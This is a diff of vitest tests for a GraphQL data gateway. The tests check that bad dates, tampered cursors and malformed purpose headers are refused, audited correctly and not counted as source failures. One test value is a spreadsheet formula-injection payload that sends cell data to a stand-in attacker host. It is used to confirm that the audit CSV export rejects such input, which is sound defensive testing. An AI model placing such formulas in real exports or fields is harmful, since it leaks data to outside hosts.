@@ -4,6 +4,7 @@
  * answers a normal query afterwards.
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { sql } from 'kysely';
 import {
   getNamedType,
   isEnumType,
@@ -142,6 +143,7 @@ describe.each(BACKENDS)('bad input on %s', (backend) => {
     clerk = await gw.token({ sub: 'bad-input-clerk', org: NANJING_EAST, roles: ['street_staff'] });
     everyone = await gw.token({ sub: 'bad-input-all', org: 'dept:public-security', roles: ['data_owner', 'auditor', 'platform_admin', 'street_admin'] });
     schema = (gw.gateway.yoga as unknown as { getEnveloped(c: object): { schema: GraphQLSchema } }).getEnveloped({}).schema;
+    await gw.graphql('{ people(first: 1) { totalCount } }', { token: clerk, purpose: 'elderly-allowance' }); // a source call, counted
   });
   afterAll(async () => gw?.close());
 
@@ -273,6 +275,125 @@ describe.each(BACKENDS)('bad input on %s', (backend) => {
     const answer = await ask(`{ me { sub } }`, undefined, token);
     expect(answer.status).toBe(401);
     expectClear(answer);
+  });
+
+  /** The audit events stored under the request id the answer names. */
+  const eventsOf = async (answer: { requestId: string | null }) => {
+    const { rows } = await sql<{ decision: string; reason: string | null; purpose: string | null; operation_type: string }>`
+      select decision, reason, purpose, operation_type from audit_event where request_id = ${answer.requestId}`.execute(gw.runtime.databases.store);
+    return rows;
+  };
+  /** Source calls counted as the source failing (the connectors' metrics: outcome unavailable, timeout, bad-response). */
+  const sourceFailures = async () => {
+    const text = await gw.runtime.metrics.render();
+    let failed = 0;
+    let lines = 0;
+    for (const line of text.split('\n')) {
+      const match = /^lianqiao_source_request_duration_seconds_count\{[^}]*outcome="([^"]+)"[^}]*\} (\d+)/.exec(line);
+      if (match) lines += 1;
+      if (match && !['ok', 'bad-cursor'].includes(match[1]!)) failed += Number(match[2]);
+    }
+    expect(lines).toBeGreaterThan(0); // the metric is there to be read
+    return failed;
+  };
+
+  it.each([
+    ['an impossible day', '2026-02-31'],
+    ['year 0', '0000-06-01'],
+    ['month 13', '2026-13-01'],
+  ])('a date filter with %s is BAD_USER_INPUT, not a source failure', async (_name, date) => {
+    const before = await sourceFailures();
+    const answer = await ask(`query($d: String) { people(first: 1, filter: { birthDate: { lte: $d } }) { totalCount } }`, { d: date });
+    expectClear(answer);
+    expect(answer.body.errors[0].extensions.code).toBe('BAD_USER_INPUT');
+    expect(await sourceFailures()).toBe(before);
+  });
+
+  it.each([
+    ['an impossible day', '2026-02-31'],
+    ['year 0', '0000-01-01'],
+    ['a word', 'yesterday'],
+    ['a number', 12],
+  ])('an edited cursor (order value: %s) is BAD_USER_INPUT, not a source failure', async (_name, value) => {
+    const query = `query($c: String) { people(first: 2, after: $c, orderBy: { field: birthDate }) { pageInfo { endCursor } } }`;
+    const first = await ask(query, { c: null });
+    const cursor = first.body.data.people.pageInfo.endCursor as string;
+    const data = JSON.parse(Buffer.from(cursor, 'base64url').toString('utf8'));
+    expect(data.v).toMatch(/^\d{4}-\d{2}-\d{2}$/);
+    const edited = Buffer.from(JSON.stringify({ ...data, v: value }), 'utf8').toString('base64url');
+    const before = await sourceFailures();
+    const answer = await ask(query, { c: edited });
+    expectClear(answer);
+    expect(answer.body.errors[0].extensions.code).toBe('BAD_USER_INPUT');
+    expect(await sourceFailures()).toBe(before);
+    // The untouched cursor still pages on.
+    expect((await ask(query, { c: cursor })).body.errors).toBeUndefined();
+  });
+
+  describe('a purpose that is not a duty id is refused before anything is read, and never recorded', () => {
+    const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    it.each([
+      ['a formula, with a token', HYPERLINK, true],
+      ['a formula, without a token', HYPERLINK, false],
+      ['24 KB', 'a'.repeat(24 * 1024), true],
+      ['upper case', 'ELDERLY-ALLOWANCE', true],
+      ['a control character', 'elderly\u0007allowance', true],
+    ])('%s', async (_name, purpose, withToken) => {
+      const before = await sourceFailures();
+      const response = await gw.gateway.yoga.fetch('http://gateway.test/graphql', {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', 'x-purpose': purpose, ...(withToken ? { authorization: `Bearer ${clerk}` } : {}) },
+        body: JSON.stringify({ query: '{ people(first: 1) { totalCount } }' }),
+      });
+      const body = await response.json();
+      expect(body.data ?? null).toBeNull();
+      expect(body.errors[0].extensions.code).toBe(withToken ? 'BAD_USER_INPUT' : 'UNAUTHENTICATED');
+      expect(response.status).toBe(withToken ? 400 : 401);
+      expect(JSON.stringify(body)).not.toContain('HYPERLINK');
+      expect(await sourceFailures()).toBe(before);
+      const events = await eventsOf({ requestId: response.headers.get('x-request-id') });
+      expect(events).toHaveLength(1);
+      expect(events[0]).toMatchObject({ decision: 'deny', purpose: null });
+      expect(events[0]!.reason).not.toContain('HYPERLINK');
+    });
+
+    it('on the audit export route too', async () => {
+      const auditor = await gw.token({ sub: 'bad-input-auditor', org: 'office:audit', roles: ['auditor'] });
+      const server = gw.gateway.app.listen(0, '127.0.0.1');
+      await new Promise<void>((resolve) => server.once('listening', () => resolve()));
+      try {
+        const port = (server.address() as { port: number }).port;
+        const answer = await fetch(`http://127.0.0.1:${port}/audit/export?from=2020-01-01T00:00:00Z&to=2030-01-01T00:00:00Z&format=csv`, {
+          headers: { authorization: `Bearer ${auditor}`, 'x-purpose': HYPERLINK },
+        });
+        expect(answer.status).toBe(400);
+        expect((await answer.json()).errors[0].extensions.code).toBe('BAD_USER_INPUT');
+      } finally {
+        await new Promise<void>((resolve) => server.close(() => resolve()));
+      }
+    });
+  });
+
+  describe('answers that never execute leave exactly one event', () => {
+    it.each([
+      ['a syntax error', { query: '{ people(first: 1) { totalCount ' }],
+      ['a validation error', { query: '{ people(first: 1) { noSuchField } }' }],
+      ['an unknown operation name', { query: 'query A { me { sub } }', operationName: 'B' }],
+      ['a subscription', { query: 'subscription S { me { sub } }' }],
+      ['several operations and no name', { query: 'query A { me { sub } } query B { me { org } }' }],
+    ])('%s', async (_name, payload) => {
+      const response = await gw.gateway.yoga.fetch('http://gateway.test/graphql', {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', 'x-purpose': 'elderly-allowance', authorization: `Bearer ${clerk}` },
+        body: JSON.stringify(payload),
+      });
+      const body = await response.json();
+      expect(body.errors?.length).toBeGreaterThan(0);
+      const events = await eventsOf({ requestId: response.headers.get('x-request-id') });
+      expect(events).toHaveLength(1);
+      expect(['deny', 'error']).toContain(events[0]!.decision);
+      expect(events[0]!.purpose).toBe('elderly-allowance');
+    });
   });
 
   it('the gateway answers a normal query afterwards', async () => {
